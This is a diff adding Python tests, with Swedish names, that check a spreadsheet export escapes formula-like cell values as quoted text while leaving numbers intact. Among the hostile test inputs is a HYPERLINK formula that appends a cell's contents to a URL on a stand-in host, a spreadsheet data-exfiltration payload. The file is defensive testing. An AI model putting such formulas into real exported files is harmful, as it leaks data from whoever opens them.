@@ -110,3 +110,52 @@ def test_bladnamn():
     a, b = bladnamn(lang, upptagna), bladnamn(lang + " (extra)", upptagna)
     assert len(a) <= 31 and len(b) <= 31 and a != b
     assert bladnamn("Skola/fritid: [test]?", set()) == "Skola fritid test"
+
+
+def test_formel_som_text_blir_aldrig_en_formel(tmp_path):
+    """Hostile input (issue 21): an activity cell written as a formula, or starting with
+    +, -, @, a tab or CR, is published as text (quote prefix), never as a formula; a
+    number stays a number."""
+    import re
+
+    konf = Konfiguration.las(ROT / "parameters")
+    data = tmp_path / "data"
+    (data / "aktiviteter" / "2020").mkdir(parents=True)
+    farliga = ['=HYPERLINK("https://exempel.invalid/?q="&A1;"Läs mer")', "+3 nya deltagare", "-1 deltagare",
+               "@SUMMA(A1:A9)", "\tinledd med tabb", "#REF!"]
+    rader = ["Id;Grupp;Aktivitet;Syfte/Mål;Ansvarig;Tidplan;Uppföljning;Status;Kommentar"]
+    for i, text in enumerate(farliga, start=1):
+        rader.append(f'SÖD-2020-{i:02d};Förebyggande;"{text.replace(chr(34), chr(34) * 2)}";Syfte;Samordnare;'
+                     f'2020;Verksamhetsberättelse;Genomförd;"={i}+{i}"')
+    (data / "aktiviteter" / "2020" / "sodermalm.csv").write_text("\n".join(rader) + "\n", encoding="utf-8")
+    u = uppfoljning.las_uppfoljning(data, konf, "sodermalm", 2021)
+    fil = uppfoljning.skriv_excel(u, tmp_path / "u.xlsx", "2021-03-01")
+    with zipfile.ZipFile(fil) as z:
+        blad = {n: z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/")}
+        stilar = z.read("xl/styles.xml").decode("utf-8")
+    assert blad and not any(re.search(r"<f[ >]", x) for x in blad.values()), "en cell skrevs som formel"
+    wb = load_workbook(fil)
+    ws = wb.worksheets[0]
+    celler = {c.value: c for r in ws.iter_rows() for c in r if isinstance(c.value, str)}
+    for text in [t for t in farliga if not t.startswith("\t")] + ["=1+1", "=6+6"]:
+        c = next(c for v, c in celler.items() if v.strip() == text.strip())
+        assert c.data_type == "s" and c.quotePrefix, text
+    assert 'quotePrefix="1"' in stilar
+    vanlig = celler["Aktivitet"]
+    assert not vanlig.quotePrefix
+
+
+def test_tal_forblir_tal_och_vanlig_text_far_inget_prefix(tmp_path):
+    import pandas as pd
+
+    from vbe_lib.render.xlsx import ar_formellik, skriv_uppfoljning
+
+    df = pd.DataFrame({"Aktivitet": ["-5", "Vanlig text", "e-post: =x"], "Ursprung": [-5, 2020, 1.5]})
+    fil = skriv_uppfoljning({"Förebyggande": df}, tmp_path / "t.xlsx", dt.date(2021, 3, 1), "Rubrik")
+    ws = load_workbook(fil).worksheets[0]
+    assert [(c.value, c.data_type, bool(c.quotePrefix)) for c in ws["B"][1:]] == [
+        (-5, "n", False), (2020, "n", False), (1.5, "n", False)]
+    assert [(c.value, bool(c.quotePrefix)) for c in ws["A"][1:]] == [
+        ("-5", True), ("Vanlig text", False), ("e-post: =x", False)]
+    assert ar_formellik("=A1") and ar_formellik("\rx") and ar_formellik("#N/A")
+    assert not ar_formellik(-5) and not ar_formellik("a=b") and not ar_formellik("")
